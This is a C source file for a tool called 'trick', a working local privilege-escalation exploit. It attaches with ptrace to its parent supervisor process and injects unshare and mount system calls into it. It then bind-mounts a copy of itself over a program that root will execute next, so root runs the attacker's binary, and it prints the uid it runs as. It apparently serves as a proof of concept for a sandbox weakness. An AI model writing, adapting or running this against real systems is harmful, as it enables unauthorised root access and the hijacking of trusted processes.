/*
 * trick: the way to root by way of a supervisor of the app's own uid. Makes that one, its parent,
 * enter namespaces of its own making, by ptrace(2), and mounts a copy of this program there over
 * the one that root will execute next: exec joins the supervisor's namespaces.
 *
 *   trick OWN PROGRAM    OWN: where the copy goes; PROGRAM: what it takes the place of
 *
 * Prints, as one JSON object in a line, the errno number of each step that it comes to, and stays.
 * Executed by another name than its own it says who it is then.
 */
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static pid_t target;
static const char *separator = "{";

static bool note(const char *step, long result) {
    printf("%s\"%s\": %d", separator, step, result < 0 ? errno : 0);
    separator = ", ";
    return result >= 0;
}

static int copy_ourselves(const char *path) {
    static char bytes[1 << 20];
    int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int to = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (from < 0 || to < 0) {
        return -1;
    }
    ssize_t length = read(from, bytes, sizeof bytes);
    bool good = length > 0 && write(to, bytes, (size_t)length) == length && fchmod(to, 0755) == 0;
    (void)close(from);
    (void)close(to); /* a file that is open for writing cannot be executed */
    return good ? 0 : -1;
}

#ifdef __x86_64__

static struct user_regs_struct registers;

/* To its next system call, which is not made; `registers` are then as if it were to make it. */
static int stop_at_a_call(void) {
    int status;
    struct user_regs_struct skipped;
    if (waitpid(target, &status, __WALL) < 0 || ptrace(PTRACE_SYSCALL, target, NULL, NULL) < 0 ||
        waitpid(target, &status, __WALL) < 0 ||
        ptrace(PTRACE_GETREGS, target, NULL, &registers) < 0) {
        return -1;
    }
    skipped = registers;
    skipped.orig_rax = (unsigned long)-1;
    registers.rip -= 2; /* the length of `syscall` */
    registers.rax = registers.orig_rax;
    registers.orig_rax = (unsigned long)-1;
    return ptrace(PTRACE_SETREGS, target, NULL, &skipped) < 0 ||
                   ptrace(PTRACE_SYSCALL, target, NULL, NULL) < 0 ||
                   waitpid(target, &status, __WALL) < 0
               ? -1
               : 0;
}

/* Lets it make another call in that one's place. */
static long call(long number, unsigned long a, unsigned long b, unsigned long c, unsigned long d) {
    struct user_regs_struct changed = registers;
    int status;
    changed.rax = (unsigned long)number;
    changed.rdi = a;
    changed.rsi = b;
    changed.rdx = c;
    changed.r10 = d;
    changed.r8 = 0;
    if (ptrace(PTRACE_SETREGS, target, NULL, &changed) < 0 ||
        ptrace(PTRACE_SINGLESTEP, target, NULL, NULL) < 0 || waitpid(target, &status, __WALL) < 0 ||
        ptrace(PTRACE_GETREGS, target, NULL, &changed) < 0) {
        return -1;
    }
    long result = (long)changed.rax;
    errno = result < 0 ? (int)-result : 0;
    return result < 0 ? -1 : result;
}

/* A string into its memory, where the next call of its own will write over it. */
static int put(unsigned long where, const char *text) {
    char padded[256] = "";
    (void)snprintf(padded, sizeof padded, "%s", text);
    for (size_t at = 0; at < sizeof padded; at += sizeof(long)) {
        long word;
        memcpy(&word, padded + at, sizeof word);
        if (ptrace(PTRACE_POKEDATA, target, where + at, word) < 0) {
            return -1;
        }
    }
    return 0;
}

static void take_over(const char *own, const char *program) {
    if (!note("attach", ptrace(PTRACE_ATTACH, target, NULL, NULL))) {
        return;
    }
    if (note("registers", stop_at_a_call())) {
        unsigned long source = (registers.rsp - 1024) & ~15UL;
        unsigned long place = source - 256;
        if (note("memory", put(source, own) < 0 || put(place, program) < 0 ? -1 : 0) &&
            note("unshare", call(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0))) {
            (void)note("mount", call(SYS_mount, source, place, 0, MS_BIND));
        }
        (void)ptrace(PTRACE_SETREGS, target, NULL, &registers);
    }
    (void)ptrace(PTRACE_DETACH, target, NULL, NULL);
}

#else

static void take_over(const char *own, const char *program) {
    (void)own;
    (void)program;
    errx(2, "knows no other machine's registers than those of x86-64");
}

#endif

/* The other way in: to follow it into namespaces of its own, or to take it into ours. */
static void join(const char *name, int kind) {
    char path[64];
    (void)snprintf(path, sizeof path, "/proc/%d/%s", (int)target, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (note(name, fd < 0 ? fd : setns(fd, kind))) {
        (void)close(fd);
    }
}

int main(int argc, char **argv) {
    const char *name = strrchr(argv[0], '/');
    if (argc != 3 || name == NULL || strcmp(name, "/trick") != 0) {
        printf("the app's own program, as uid %d\n", (int)geteuid());
        return 0;
    }
    target = getppid();
    if (note("copy", copy_ourselves(argv[1]))) {
        take_over(argv[1], argv[2]);
    }
    join("ns/user", CLONE_NEWUSER);
    join("ns/mnt", CLONE_NEWNS);
    printf("}\n");
    (void)fflush(stdout);
    for (;;) {
        (void)pause();
    }
}
